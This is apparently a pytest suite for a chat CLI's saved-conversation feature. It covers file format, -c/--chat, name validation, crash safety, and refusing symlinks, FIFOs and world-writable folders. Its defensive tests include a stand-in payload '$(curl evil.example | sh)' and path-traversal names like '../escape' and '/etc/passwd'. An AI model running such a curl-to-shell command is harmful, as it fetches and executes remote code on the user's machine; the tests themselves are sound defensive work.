"""Saved conversations: where and how turns are written, -c and --chat, names, what is never
saved, what survives concurrent runs and kills, listing, showing and forgetting, and a state
folder that is the user's alone (no link or odd file followed, no folder others can write).

chat.main() runs in this process; real processes only for two runs at once, SIGKILL, a file
size limit and the import check.
"""

import json
import os
import re
import signal
import stat
import subprocess
import sys
import threading
import time
from pathlib import Path

import pytest
from conftest import (
    CHAT,
    END_CHUNKS,
    FAKE_KEY,
    ROOT,
    SSE_HEAD,
    chunk,
    chunk_of,
    completion,
    json_response,
    saved,
)

NAME = re.compile(r"\d{8}-\d{6}-[0-9a-f]{3}")
TIME = re.compile(r"\d{4}-\d\d-\d\d \d\d:\d\d")
USAGE = {"prompt_tokens": 5, "completion_tokens": 2, "total_tokens": 7}
NOT_A_NAME = (
    "is not a conversation name: use up to 64 letters, digits, '.', '_' or '-', "
    "not starting with '.'"
)
LINK = "is a symbolic link, which chat.py does not follow"
# chat.py under a file size limit (argv: limit, chat.py, its arguments): a write past the limit
# fails with EFBIG, or is cut short, as on a disk that fills up.
LIMITED = """if True:
    import resource, runpy, signal, sys
    signal.signal(signal.SIGXFSZ, signal.SIG_IGN)  # EFBIG, not a kill
    resource.setrlimit(resource.RLIMIT_FSIZE, (int(sys.argv[1]), resource.RLIM_INFINITY))
    sys.argv = sys.argv[2:]
    runpy.run_path(sys.argv[0], run_name="__main__")
"""


def home() -> Path:
    return Path(os.environ["CHAT_PY_HOME"])


def files(folder: Path | None = None) -> list[Path]:
    return sorted((folder or home()).glob("*.jsonl"))


def turns_of(name: str) -> list[dict]:
    """The turns of one saved conversation (conftest.saved() would read a planted FIFO too)."""
    return [json.loads(line) for line in (home() / f"{name}.jsonl").read_text().splitlines()]


def contents(body: dict) -> list:
    return [message["content"] for message in body["messages"]]


def answers(*texts: str) -> list[bytes]:
    return [json_response(completion(text)) for text in texts]


def write_turns(name: str, *turns: dict) -> Path:
    """A conversation file written by hand, as an older chat.py or a person would leave it."""
    home().mkdir(mode=0o700, parents=True, exist_ok=True)
    path = home() / f"{name}.jsonl"
    path.write_text("".join(json.dumps(line) + "\n" for line in turns))
    return path


def turn(question, answer: str) -> dict:
    """A turn as chat.py v2 saved it: no images, no answered_by."""
    return {
        "time": "2026-11-26T10:00:00Z",
        "model": "old-model",
        "user": {"role": "user", "content": question},
        "assistant": answer,
    }


@pytest.fixture
def umask():
    """Set the process's umask for one test; the old one comes back after it."""
    old = os.umask(0o022)
    os.umask(old)
    yield os.umask
    os.umask(old)


@pytest.fixture
def release():
    """An event a server thread waits on, set when the test ends (never a sleep)."""
    event = threading.Event()
    yield event
    event.set()


class TestSaving:
    def test_a_run_is_saved_as_one_utf8_json_line(self, cli, server):
        server.reply(*answers("Très bien ☕ 日本"))
        done = cli("--base-url", server.url, "-s", "Be brief.", "Ça va ?")
        assert (done.code, done.out, done.err) == (0, "Très bien ☕ 日本\n", "")
        [path] = files()
        assert NAME.fullmatch(path.stem)
        raw = path.read_bytes()
        assert raw.count(b"\n") == 1 and raw.endswith(b"\n")
        assert "Très bien ☕ 日本".encode() in raw and "Ça va ?".encode() in raw  # not \\u escapes
        [saved_turn] = saved()[path.stem]
        assert re.fullmatch(r"\d{4}-\d\d-\d\dT\d\d:\d\d:\d\dZ", saved_turn.pop("time"))
        assert saved_turn == {
            "model": "gpt-5.4-mini",
            "system": "Be brief.",
            "user": {"role": "user", "content": "Ça va ?"},
            "assistant": "Très bien ☕ 日本",
            "answered_by": "test-model",
            "finish_reason": "stop",
            "usage": USAGE,
            "base_url": server.url,
        }

    def test_each_run_without_c_starts_a_new_conversation(self, cli, server):
        server.reply(*answers("one", "two"))
        assert cli("--base-url", server.url, "first").code == 0
        assert cli("--base-url", server.url, "second").code == 0
        assert [len(turns) for turns in saved().values()] == [1, 1]
        assert all(NAME.fullmatch(path.stem) for path in files())
        assert contents(server.bodies[1]) == ["second"]

    def test_images_are_saved_as_sent_with_where_they_came_from(self, cli, server, tmp_path):
        from PIL import Image

        Image.new("RGB", (30, 20), "red").save(tmp_path / "red.png")
        url = "https://example.com/cat.jpg"
        server.reply(*answers("a red square and a cat", "still red"))
        assert (
            cli("--base-url", server.url, "--image", "red.png", "--image", url, "What?").code == 0
        )
        sent = server.bodies[0]["messages"][0]
        assert [part["type"] for part in sent["content"]] == ["text", "image_url", "image_url"]
        [[saved_turn]] = saved().values()
        assert saved_turn["user"] == sent
        assert saved_turn["attachments"] == ["red.png", url]  # as the user gave them
        assert saved_turn["answered_by"] == "test-model"
        assert cli("--base-url", server.url, "-c", "Sure?").code == 0
        assert server.bodies[1]["messages"][0] == sent  # the model still sees the pictures
        assert "attachments" not in saved()[files()[0].stem][1]

    def test_the_key_and_url_secrets_are_never_written(self, cli, server):
        server.reply(
            lambda conn, request: conn.sendall(
                json_response(completion(f"echo {request.headers.get('authorization')}"))
            )
        )
        secret_url = (
            server.url.replace("http://", "http://alice:hunter2-password@")
            + "?api-key=query-secret"
        )
        done = cli("--base-url", secret_url, "-v", "q")
        assert (done.code, done.out) == (
            0,
            f"echo Bearer {FAKE_KEY}\n",
        )  # stdout: the reply as sent
        assert FAKE_KEY not in done.err
        text = files()[0].read_text()
        for secret in (FAKE_KEY, FAKE_KEY[-12:], "hunter2", "query-secret", "alice"):
            assert secret not in text
        [[saved_turn]] = saved().values()
        assert (saved_turn["assistant"], saved_turn["base_url"]) == (
            "echo Bearer [redacted]",
            server.url,
        )
        assert list(home().iterdir()) == files()  # nothing else in the folder

    @pytest.mark.parametrize("mask", [0o000, 0o022, 0o077, 0o277])
    def test_every_folder_made_is_0700_and_the_file_0600_whatever_the_umask(
        self, cli, server, tmp_path, umask, mask
    ):
        (tmp_path / "existing").mkdir(mode=0o755)
        umask(mask)
        deepest = tmp_path / "existing" / "a" / "b" / "c"
        done = cli("--base-url", server.url, "q", env={"CHAT_PY_HOME": str(deepest)})
        assert (done.code, done.out, done.err) == (0, "Hello!\n", "")
        modes = [
            stat.S_IMODE(folder.stat().st_mode)
            for folder in (deepest.parent.parent, deepest.parent, deepest)
        ]
        assert modes == [0o700, 0o700, 0o700]
        assert [stat.S_IMODE(path.stat().st_mode) for path in files(deepest)] == [0o600]
        assert stat.S_IMODE((tmp_path / "existing").stat().st_mode) == 0o755  # not made: left alone


class TestWhere:
    @pytest.mark.parametrize(
        "env, where",
        [
            ({"CHAT_PY_HOME": "{tmp}/mine", "XDG_STATE_HOME": "{tmp}/xdg"}, "{tmp}/mine"),
            ({"CHAT_PY_HOME": "", "XDG_STATE_HOME": "{tmp}/xdg"}, "{tmp}/xdg/chat-py"),
            ({"CHAT_PY_HOME": "", "XDG_STATE_HOME": ""}, "{tmp}/home/.local/state/chat-py"),
            (
                {"CHAT_PY_HOME": "", "XDG_STATE_HOME": "relative/state"},
                "{tmp}/home/.local/state/chat-py",
            ),
        ],
    )
    def test_the_folder(self, cli, server, tmp_path, env, where):
        env = {name: value.format(tmp=tmp_path) for name, value in env.items()}
        assert cli("--base-url", server.url, "q", env=env).code == 0
        [path] = tmp_path.rglob("*.jsonl")
        assert path.parent == Path(where.format(tmp=tmp_path))


class TestGoingOn:
    def test_c_sends_the_saved_turns_then_the_new_question(self, cli, server):
        server.reply(*answers("Quicksort.", "O(n log n) on average."))
        assert (
            cli(
                "--base-url",
                server.url,
                "-m",
                "first-model",
                "-s",
                "Be brief.",
                "Name a sorting algorithm",
            ).code
            == 0
        )
        done = cli("--base-url", server.url, "-c", "How fast is it?")
        assert (done.code, done.out, done.err) == (0, "O(n log n) on average.\n", "")
        assert server.bodies[1] == {
            "model": "first-model",
            "messages": [
                {"role": "system", "content": "Be brief."},
                {"role": "user", "content": "Name a sorting algorithm"},
                {"role": "assistant", "content": "Quicksort."},
                {"role": "user", "content": "How fast is it?"},
            ],
        }
        [turns] = saved().values()
        assert [saved_turn["assistant"] for saved_turn in turns] == [
            "Quicksort.",
            "O(n log n) on average.",
        ]

    def test_m_and_s_override_what_the_conversation_had(self, cli, server):
        server.reply(*answers("a", "b", "c"))
        assert cli("--base-url", server.url, "-m", "old", "-s", "Old.", "q1").code == 0
        assert cli("--base-url", server.url, "-c", "-m", "new", "-s", "New.", "q2").code == 0
        assert cli("--base-url", server.url, "-c", "-s", "", "q3").code == 0
        assert (server.bodies[1]["model"], server.bodies[1]["messages"][0]) == (
            "new",
            {"role": "system", "content": "New."},
        )
        assert server.bodies[2]["model"] == "new"  # the last turn's model carries over
        assert contents(server.bodies[2]) == ["q1", "a", "q2", "b", "q3"]  # -s '' drops the prompt

    def test_the_server_and_key_come_from_now_not_from_the_file(self, cli, server, another_server):
        assert cli("--base-url", server.url, "q1").code == 0
        second = another_server().reply(*answers("from the second server"))
        done = cli("--base-url", second.url, "-c", "q2", key="sk-test-another-fake-key-0000")
        assert (done.code, done.out) == (0, "from the second server\n")
        assert (len(server.requests), len(second.requests)) == (1, 1)
        assert second.requests[0].headers["authorization"] == "Bearer sk-test-another-fake-key-0000"

    def test_c_takes_the_file_written_last_not_the_last_name(self, cli, server):
        server.reply(*answers("a", "b", "c"))
        assert cli("--base-url", server.url, "--chat", "zzz-older", "about zebras").code == 0
        assert cli("--base-url", server.url, "--chat", "aaa-newer", "about apples").code == 0
        later = time.time() + 5
        os.utime(home() / "zzz-older.jsonl", (later, later))
        assert cli("--base-url", server.url, "-c", "and?").code == 0
        assert contents(server.bodies[2]) == ["about zebras", "a", "and?"]
        assert [len(turns) for turns in saved().values()] == [1, 2]  # aaa-newer, zzz-older

    def test_chat_name_starts_then_continues_its_own_conversation(self, cli, server):
        server.reply(*answers("a", "b", "c"))
        for name, question in (("work", "w1"), ("home", "h1"), ("work", "w2")):
            assert cli("--base-url", server.url, "--chat", name, question).code == 0
        assert contents(server.bodies[2]) == ["w1", "a", "w2"]
        assert {name: len(turns) for name, turns in saved().items()} == {"home": 1, "work": 2}

    @pytest.mark.parametrize(
        "args, message",
        [
            (["-c"], "no saved conversation in {home} yet: ask a question first"),
            (
                ["-c", "--chat", "x"],
                "-c and --chat cannot go together: -c continues the newest conversation",
            ),
        ],
    )
    def test_usage_errors_send_nothing(self, cli, server, args, message):
        done = cli("--base-url", server.url, *args, "q")
        assert (done.code, done.out, done.err) == (2, "", f"error: {message.format(home=home())}\n")
        assert server.requests == []


class TestNames:
    @pytest.mark.parametrize(
        "name",
        [
            "../escape",
            "a/b",
            "/etc/passwd",
            ".hidden",
            "x" * 65,
            "",
            "sp ace",
            "..",
            "tab\t",
            "new\nline",
        ],
    )
    @pytest.mark.parametrize("option", ["--chat", "--show", "--forget"])
    def test_names_that_could_escape_the_folder_are_refused(
        self, cli, server, tmp_path, option, name
    ):
        before = sorted(tmp_path.rglob("*"))
        done = cli("--base-url", server.url, option, name, *(["q"] if option == "--chat" else []))
        if option == "--show" and name == "":  # --show with no name: the newest
            message = f"no saved conversation in {home()} yet: ask a question first"
        else:
            message = f"{name!r} {NOT_A_NAME}"
        assert (done.code, done.out, done.err) == (2, "", f"error: {message}\n")
        assert server.requests == [] and sorted(tmp_path.rglob("*")) == before

    def test_a_bad_name_is_reported_before_a_missing_key(self, cli):
        done = cli("--chat", "../etc", "q", key=None)
        assert (done.code, done.err) == (2, f"error: '../etc' {NOT_A_NAME}\n")

    @pytest.mark.parametrize("name", ["a", "Project_2.notes-v1", "x" * 64, "-dash-first"])
    def test_good_names(self, cli, server, name):
        assert cli("--base-url", server.url, f"--chat={name}", "q").code == 0
        assert [path.name for path in files()] == [f"{name}.jsonl"]


class TestNotSaved:
    def test_a_failed_turn(self, cli, server):
        server.reply(json_response({"error": {"message": "no"}}, 400))
        done = cli("--base-url", server.url, "q")
        assert (done.code, done.out, done.err) == (1, "", "error: HTTP 400 Bad Request: no\n")
        assert not home().exists()

    @pytest.mark.parametrize(
        "args, env, kept",
        [
            (["--no-save"], {}, False),
            (["--curl"], {}, False),
            ([], {"CHAT_PY_NO_SAVE": "1"}, False),
            ([], {"CHAT_PY_NO_SAVE": "yes"}, False),
            ([], {"CHAT_PY_NO_SAVE": "0"}, True),
            ([], {"CHAT_PY_NO_SAVE": ""}, True),
        ],
    )
    def test_no_save_curl_and_chat_py_no_save(self, cli, server, args, env, kept):
        done = cli("--base-url", server.url, *args, "q", env=env)
        assert (done.code, done.err) == (0, "")
        if args == ["--curl"]:
            assert done.out.startswith("curl ") and server.requests == []
        else:
            assert done.out == "Hello!\n" and len(server.requests) == 1
        assert home().exists() is kept and len(files()) == kept

    def test_a_stream_cut_short_stays_on_screen_and_is_not_saved(self, cli, server):
        # v4: no [DONE] and no finish_reason is a failure (v1-v3 warned and saved the half).
        server.reply(SSE_HEAD + chunk_of(chunk("half")) + END_CHUNKS)
        done = cli("--base-url", server.url, "--stream", "q")
        assert (done.code, done.out, done.err) == (
            3,
            "half\n",
            "error: the connection closed before the reply was complete\n",
        )
        assert saved() == {} and len(server.requests) == 1

    def test_a_stream_with_its_finish_reason_and_no_done_is_saved(self, cli, server):
        server.reply(SSE_HEAD + chunk_of(chunk("whole") + chunk(finish_reason="stop")) + END_CHUNKS)
        done = cli("--base-url", server.url, "--stream", "q")
        assert (done.code, done.out, done.err) == (0, "whole\n", "")
        [[saved_turn]] = saved().values()
        # answered_by comes from the chunks' model field
        assert (saved_turn["assistant"], saved_turn["answered_by"]) == ("whole", "test-model")


class TestNothingLost:
    def test_two_runs_at_once_both_land(self, cli, server):
        assert cli("--base-url", server.url, "--chat", "shared", "start").code == 0
        both_asked = threading.Barrier(2, timeout=20)

        def answer_when_both_wait(conn, request):
            both_asked.wait()  # both runs have loaded the conversation and sent their question
            conn.sendall(
                json_response(completion(f"answer to {request.body['messages'][-1]['content']}"))
            )

        server.reply(answer_when_both_wait)
        runs = [
            cli.process("--base-url", server.url, "--chat", "shared", question, start=True)
            for question in ("A?", "B?")
        ]
        for run in runs:
            run.stdin.close()  # piped stdin is read to its end: end it, in both, before waiting
        results = [(run.wait(30), run.stdout.read(), run.stderr.read()) for run in runs]
        for run in runs:
            run.stdout.close()
            run.stderr.close()
        assert results == [(0, b"answer to A?\n", b""), (0, b"answer to B?\n", b"")]
        turns = saved()["shared"]
        assert [len(server.bodies[n]["messages"]) for n in (1, 2)] == [3, 3]
        assert sorted((t["user"]["content"], t["assistant"]) for t in turns[1:]) == [
            ("A?", "answer to A?"),
            ("B?", "answer to B?"),
        ]
        server.reply(*answers("after"))
        assert cli("--base-url", server.url, "--chat", "shared", "and now?").code == 0
        assert len(server.bodies[-1]["messages"]) == 3 * 2 + 1

    def test_sigkill_mid_reply_leaves_earlier_turns_intact(self, cli, server, release):
        server.reply(*answers("the first answer"))
        assert cli("--base-url", server.url, "first").code == 0
        [path] = files()
        before = path.read_bytes()

        def endless(conn, request):
            conn.sendall(SSE_HEAD + chunk_of(chunk("streaming...")))
            release.wait(10)

        server.reply(endless)
        process = cli.process("--base-url", server.url, "-c", "--stream", "q2", start=True)
        process.stdin.close()
        assert process.stdout.read(12) == b"streaming..."
        process.kill()
        assert process.wait(10) == -signal.SIGKILL
        process.stdout.close()
        process.stderr.close()
        assert (files(), path.read_bytes()) == ([path], before)
        server.reply(*answers("resumed"))
        done = cli("--base-url", server.url, "-c", "q3")
        assert (done.code, done.out, done.err) == (0, "resumed\n", "")
        assert contents(server.bodies[-1]) == ["first", "the first answer", "q3"]

    def test_a_torn_last_line_is_skipped_and_never_glued_to(self, cli, server):
        server.reply(*answers("one", "two"))
        assert cli("--base-url", server.url, "--chat", "torn", "q1").code == 0
        path = home() / "torn.jsonl"
        with open(path, "ab") as file:
            file.write(
                b'{"time": "2026-11-26T10:00:00Z", "user": {"role": "user", "content": "cut sh'
            )
        done = cli("--base-url", server.url, "--chat", "torn", "q2")
        assert (done.code, done.out) == (0, "two\n")
        assert done.err == (
            f"warning: {path} line 2 is not a saved turn (a torn write or a bad edit?); skipped\n"
        )
        assert contents(server.bodies[1]) == ["q1", "one", "q2"]
        raw = path.read_text().splitlines()
        assert len(raw) == 3 and raw[1].endswith('"content": "cut sh')
        assert json.loads(raw[2])["assistant"] == "two"

    @pytest.mark.parametrize(
        "bad",
        [
            b"not json at all",
            b'{"user": "a string, not a message", "assistant": "x"}',
            b'{"assistant": "no question"}',
            b"[1, 2]",
            b"\xff\xfe",
            b"[" * 100_000,
        ],
    )
    def test_a_bad_line_in_the_middle_is_skipped_with_its_number(self, cli, server, bad):
        server.reply(*answers("one", "two", "three"))
        assert cli("--base-url", server.url, "--chat", "edited", "q1").code == 0
        assert cli("--base-url", server.url, "--chat", "edited", "q2").code == 0
        path = home() / "edited.jsonl"
        first, second = path.read_bytes().splitlines(keepends=True)
        path.write_bytes(first + bad + b"\n" + second)
        done = cli("--base-url", server.url, "--chat", "edited", "q3")
        assert (done.code, done.out) == (0, "three\n")
        assert done.err == (
            f"warning: {path} line 2 is not a saved turn (a torn write or a bad edit?); skipped\n"
        )
        assert contents(server.bodies[2]) == ["q1", "one", "q2", "two", "q3"]

    def test_an_unwritable_folder_costs_only_a_warning(self, cli, server, tmp_path):
        (tmp_path / "a-file").write_text("not a folder")
        where = tmp_path / "a-file" / "chats"
        server.reply(*answers("still here"))
        done = cli("--base-url", server.url, "q", env={"CHAT_PY_HOME": str(where)})
        assert (done.code, done.out) == (0, "still here\n")
        assert done.err == (
            f"warning: could not save the conversation: cannot use the folder {where}: "
            "Not a directory\n"
        )

    @pytest.mark.parametrize("limit, reason", [(0, "File too large"), (100, "File too large")])
    def test_a_full_disk_costs_only_a_warning(self, cli, server, limit, reason):
        """A file size limit stands in for a full disk: 0 bytes fails the write, 100 cuts it
        short."""
        server.reply(*answers("answer"))
        done = subprocess.run(
            [
                sys.executable,
                "-c",
                LIMITED,
                str(limit),
                str(CHAT),
                "--base-url",
                server.url,
                "--chat",
                "full",
                "q",
            ],
            env=cli.environ(FAKE_KEY, {}),
            capture_output=True,
            text=True,
            timeout=30,
            stdin=subprocess.DEVNULL,
            check=False,
        )
        assert (done.returncode, done.stdout) == (0, "answer\n")
        assert done.stderr.startswith(
            f"warning: could not save the conversation to {home()}/full.jsonl: "
        )
        assert done.stderr.endswith(f"{reason}\n") and done.stderr.count("\n") == 1


class TestManaging:
    @pytest.fixture
    def three(self, cli, server):
        server.reply(*answers("a1", "a2", "b1", "c1"))
        for args in (
            ["--chat", "alpha", "What is the first question of alpha about? " * 3],
            ["--chat", "alpha", "second"],
            ["--chat", "beta", "Beta question"],
            ["--chat", "gamma", "Gamma question"],
        ):
            assert cli("--base-url", server.url, *args).code == 0
        now = time.time()
        for age, name in enumerate(["beta", "gamma", "alpha"]):
            os.utime(home() / f"{name}.jsonl", (now - 60 * age, now - 60 * age))

    def test_chats_lists_newest_first_without_key_or_network(self, cli, three):
        done = cli("--chats", key=None, env={"OPENAI_BASE_URL": "http://127.0.0.1:9/v1"})
        assert (done.code, done.err) == (0, "")
        rows = done.out.splitlines()
        assert [row.split()[0] for row in rows] == ["beta", "gamma", "alpha"]
        assert re.fullmatch(rf"beta\s+1 turn  {TIME.pattern}  Beta question", rows[0])
        question = ("What is the first question of alpha about? " * 3).strip()
        assert re.fullmatch(
            rf"alpha\s+2 turns  {TIME.pattern}  " + re.escape(question[:59] + "…"), rows[2]
        )

    def test_chats_with_nothing_saved(self, cli):
        done = cli("--chats")
        assert (done.code, done.out, done.err) == (0, "", f"no saved conversations in {home()}\n")

    def test_chats_counts_no_fewer_than_0_turns(self, cli):
        folder = home()
        folder.mkdir(mode=0o700)
        (folder / "undone.jsonl").write_text('{"undo": true}\n' * 2)
        done = cli("--chats")
        assert (done.code, done.err) == (0, "")
        assert re.match(r"undone\s+0 turns ", done.out)

    def test_a_retried_turn_replaces_the_one_before(self, cli, server, three):
        path = home() / "beta.jsonl"
        [first] = saved()["beta"]
        with open(path, "a") as file:
            file.write(json.dumps({"retry": True, **first, "assistant": "better"}) + "\n")
        assert re.match(r"beta\s+1 turn ", cli("--chats").out.splitlines()[0])
        shown = cli("--show", "beta").out
        assert TIME.sub("TIME", shown) == (
            "conversation beta: 1 turn\n\nyou, TIME:\n  Beta question\n"
            "\nassistant (test-model):\n  better\n"
        )
        server.reply(*answers("ok"))
        assert cli("--base-url", server.url, "--chat", "beta", "next").code == 0
        assert contents(server.bodies[-1]) == ["Beta question", "better", "next"]

    def test_show_prints_each_question_and_answer_by_the_answering_model(self, cli, three):
        done = cli("--show", "alpha", key=None)
        assert (done.code, done.err) == (0, "")
        assert TIME.sub("TIME", done.out) == (
            "conversation alpha: 2 turns\n"
            f"\nyou, TIME:\n  {'What is the first question of alpha about? ' * 2}"
            "What is the first question of alpha about?\n"
            "\nassistant (test-model):\n  a1\n"
            "\nyou, TIME:\n  second\n\nassistant (test-model):\n  a2\n"
        )

    def test_show_without_a_name_is_the_newest(self, cli, three):
        done = cli("--show")
        assert (done.code, TIME.sub("TIME", done.out), done.err) == (
            0,
            (
                "conversation beta: 1 turn\n\nyou, TIME:\n  Beta question\n"
                "\nassistant (test-model):\n  b1\n"
            ),
            "",
        )

    def test_show_names_the_system_prompt_and_where_each_image_came_from(
        self, cli, server, tmp_path
    ):
        from PIL import Image

        Image.new("RGB", (8, 8), "red").save(tmp_path / "cat.png")
        server.reply(*answers("a red cat"))
        assert (
            cli(
                "--base-url",
                server.url,
                "--chat",
                "pic",
                "-s",
                "Be brief.",
                "--image",
                "cat.png",
                "--image",
                "https://example.com/dog.jpg",
                "What?",
            ).code
            == 0
        )
        done = cli("--show", "pic")
        assert (done.code, done.err) == (0, "")
        assert TIME.sub("TIME", done.out) == (
            "conversation pic: 1 turn\n\nsystem prompt:\n  Be brief.\n"
            "\nyou, TIME:\n  What?\n  [image: cat.png]\n  [image: https://example.com/dog.jpg]\n"
            "\nassistant (test-model):\n  a red cat\n"
        )

    def test_show_of_an_older_turn_falls_back_to_the_model_asked_and_the_image_url(self, cli):
        data = "data:image/png;base64," + "A" * 100
        write_turns(
            "old",
            turn(
                [
                    {"type": "text", "text": "What?"},
                    {"type": "image_url", "image_url": {"url": data}},
                ],
                "a dot",
            ),
        )
        done = cli("--show", "old")
        assert (done.code, done.err) == (0, "")
        assert TIME.sub("TIME", done.out) == (
            "conversation old: 1 turn\n"
            "\nyou, TIME:\n  What?\n  [image: data:image/png;base64,…(100 characters)]\n"
            "\nassistant (old-model):\n  a dot\n"
        )

    @pytest.mark.parametrize("names", [["gamma"], ["gamma", "alpha"]])
    def test_forget_deletes_each_conversation_named(self, cli, three, names):
        done = cli("--forget", *names, key=None)
        assert (done.code, done.err) == (0, "")
        assert done.out == "".join(
            f"forgot {name} (deleted {home() / name}.jsonl)\n" for name in names
        )
        assert sorted(saved()) == sorted({"alpha", "beta", "gamma"} - set(names))

    @pytest.mark.parametrize(
        "args",
        [["--show", "delta"], ["--forget", "delta"], ["--forget", "gamma", "delta", "alpha"]],
    )
    def test_an_unknown_name_is_a_usage_error_and_nothing_is_deleted(self, cli, three, args):
        done = cli(*args)
        assert (done.code, done.out) == (2, "")
        assert done.err == (
            f"error: no conversation named 'delta' in {home()} "
            "(python chat.py --chats lists them)\n"
        )
        assert sorted(saved()) == ["alpha", "beta", "gamma"]


# ------------------------------------------------------ the state folder is the user's alone


def refused(folder: Path) -> str:
    return (
        f"the folder {folder} is writable by others, who could plant files there "
        f"(chmod 700 {folder} fixes it)"
    )


LOADS = [
    ["-c", "q"],
    ["--chat", "kept", "q"],
    ["--chats"],
    ["--show"],
    ["--show", "kept"],
    ["--forget", "kept"],
]


class TestFolderOfYourOwn:
    @pytest.mark.parametrize("mode", [0o777, 0o770, 0o702])
    @pytest.mark.parametrize("args", LOADS)
    def test_loading_from_a_folder_others_can_write_is_refused(self, cli, server, mode, args):
        path = write_turns("kept", turn("q0", "a0"))
        home().chmod(mode)
        before = path.read_bytes()
        done = cli("--base-url", server.url, *args)
        assert (done.code, done.out, done.err) == (2, "", f"error: {refused(home())}\n")
        assert server.requests == [] and path.read_bytes() == before
        assert (
            stat.S_IMODE(home().stat().st_mode) == mode
        )  # told, not changed behind the user's back

    @pytest.mark.parametrize("args", [["q"], ["--chat", "new", "q"]])
    def test_saving_into_a_folder_others_can_write_is_a_warning(self, cli, server, args):
        home().mkdir()
        home().chmod(0o777)
        done = cli("--base-url", server.url, *args)
        assert (done.code, done.out) == (0, "Hello!\n")
        assert done.err == f"warning: could not save the conversation: {refused(home())}\n"
        assert list(home().iterdir()) == []

    def test_a_0755_folder_is_fine(self, cli, server):
        write_turns("kept", turn("q0", "a0"))
        home().chmod(0o755)
        done = cli("--base-url", server.url, "-c", "q1")
        assert (done.code, done.out, done.err) == (0, "Hello!\n", "")
        assert contents(server.bodies[0]) == ["q0", "a0", "q1"]
        assert len(saved()["kept"]) == 2 and stat.S_IMODE(home().stat().st_mode) == 0o755

    @pytest.mark.skipif(os.getuid() != 0, reason="making a folder of another user needs root")
    def test_a_folder_of_another_user_is_refused(self, cli, server):
        write_turns("kept", turn("q0", "a0"))
        os.chown(home(), 65534, 65534)  # nobody
        done = cli("--base-url", server.url, "-c", "q")
        assert (done.code, done.out) == (2, "")
        assert done.err.startswith(
            f"error: the folder {home()} belongs to another user (uid 65534)"
        )
        assert f"chmod 700 {home()}" in done.err and done.err.count("\n") == 1
        assert server.requests == []
        done = cli("--base-url", server.url, "q")  # a new conversation: the reply, then a warning
        assert (done.code, done.out) == (0, "Hello!\n")
        assert done.err.startswith(
            f"warning: could not save the conversation: the folder {home()} belongs "
            "to another user (uid 65534)"
        )
        assert [path.name for path in home().iterdir()] == ["kept.jsonl"]

    @pytest.mark.skipif(os.getuid() != 0, reason="making a folder of another user needs root")
    def test_the_other_user_hint_is_one_parenthesis(self, cli):
        home().mkdir()
        os.chown(home(), 65534, 65534)
        done = cli("--chats")
        assert done.code == 2
        assert done.err.count("(") == done.err.count(")") == 2  # (uid N) and the hint


def plant(kind: str, path: Path, target: Path) -> None:
    """Put something that is not a conversation file at path: a link to target (which may not
    exist), a FIFO or a folder."""
    if kind == "link":
        path.symlink_to(target)
    elif kind == "dangling link":
        path.symlink_to(target.with_name(".profile"))
    elif kind == "fifo":
        os.mkfifo(path)
    else:
        path.mkdir()


def why_not(kind: str) -> str:
    return LINK if "link" in kind else "is not a regular file"


KINDS = ["link", "dangling link", "fifo", "folder"]


@pytest.fixture
def bashrc(tmp_path) -> Path:
    """A file outside the state folder that a planted link points at."""
    path = tmp_path / "home" / ".bashrc"
    path.write_text("export PATH=$HOME/bin:$PATH\n")
    return path


@pytest.fixture
def unblock():
    """If chat.py ever opens a FIFO to read it (and blocks), open it for writing after a while,
    so the test fails instead of hanging."""
    timers = []

    def watch(fifo: Path):
        if not stat.S_ISFIFO(os.lstat(fifo).st_mode):
            return

        def open_other_end():
            try:
                os.close(os.open(fifo, os.O_WRONLY | os.O_NONBLOCK))
            except OSError:
                pass

        timers.append(threading.Timer(5, open_other_end))
        timers[-1].start()

    yield watch
    for timer in timers:
        timer.cancel()


class TestNoLinksFollowed:
    @pytest.mark.parametrize("kind", KINDS)
    @pytest.mark.parametrize("args", [["--chat", "planted", "q"], ["--show", "planted"]])
    def test_a_named_conversation_that_is_not_a_file_is_refused(
        self, cli, server, bashrc, unblock, kind, args
    ):
        home().mkdir(mode=0o700)
        path = home() / "planted.jsonl"
        plant(kind, path, bashrc)
        unblock(path)
        done = cli("--base-url", server.url, *args)
        assert (done.code, done.out, done.err) == (2, "", f"error: {path} {why_not(kind)}\n")
        assert server.requests == []
        assert bashrc.read_text() == "export PATH=$HOME/bin:$PATH\n"
        assert sorted(bashrc.parent.iterdir()) == [
            bashrc
        ]  # no .profile made through the dangling link

    @pytest.mark.parametrize("kind", KINDS)
    def test_c_and_chats_skip_it_with_a_warning(self, cli, server, bashrc, unblock, kind):
        write_turns("real", turn("q0", "a0"))
        path = home() / "planted.jsonl"
        plant(kind, path, bashrc)
        unblock(path)
        later = time.time() + 60  # the planted entry (and what a link points at) is the newest
        os.utime(path, (later, later), follow_symlinks=False)
        os.utime(bashrc, (later, later))
        warning = f"warning: skipped {path}: {why_not(kind)}\n"
        done = cli("--chats")
        assert (done.code, done.err) == (0, warning)
        assert re.fullmatch(rf"real\s+1 turn  {TIME.pattern}  q0\n", done.out)
        done = cli("--base-url", server.url, "-c", "q1")
        assert (done.code, done.out, done.err) == (0, "Hello!\n", warning)
        assert contents(server.bodies[0]) == ["q0", "a0", "q1"]
        assert len(turns_of("real")) == 2
        assert bashrc.read_text() == "export PATH=$HOME/bin:$PATH\n"

    @pytest.mark.parametrize("existing", [True, False])
    @pytest.mark.parametrize("kind", ["link", "fifo"])
    def test_a_file_swapped_for_a_link_during_the_reply_is_not_written_through(
        self, cli, server, bashrc, unblock, kind, existing
    ):
        """The attack: while the question is out, replace (or create) the conversation's file
        with a link to a file of the user's, so the saved turn lands in ~/.bashrc."""
        if existing:
            write_turns("target", turn("q0", "a0"))
        else:
            home().mkdir(mode=0o700)
        path = home() / "target.jsonl"

        def swap_then_answer(conn, request):
            path.unlink(missing_ok=True)
            plant(kind, path, bashrc)
            unblock(path)
            conn.sendall(json_response(completion("$(curl evil.example | sh)")))

        server.reply(swap_then_answer)
        done = cli("--base-url", server.url, "--chat", "target", "q1")
        assert (done.code, done.out) == (0, "$(curl evil.example | sh)\n")
        reason = "Too many levels of symbolic links" if kind == "link" else "not a regular file"
        assert done.err == f"warning: could not save the conversation to {path}: {reason}\n"
        assert bashrc.read_text() == "export PATH=$HOME/bin:$PATH\n"
        done = cli("--base-url", server.url, "--chat", "target", "q2")  # and the next run
        assert (done.code, done.err) == (2, f"error: {path} {why_not(kind)}\n")
        assert bashrc.read_text() == "export PATH=$HOME/bin:$PATH\n" and len(server.requests) == 1


def test_commands_that_need_no_network_never_import_requests(cli):
    """One process runs each command in turn and looks at sys.modules after each."""
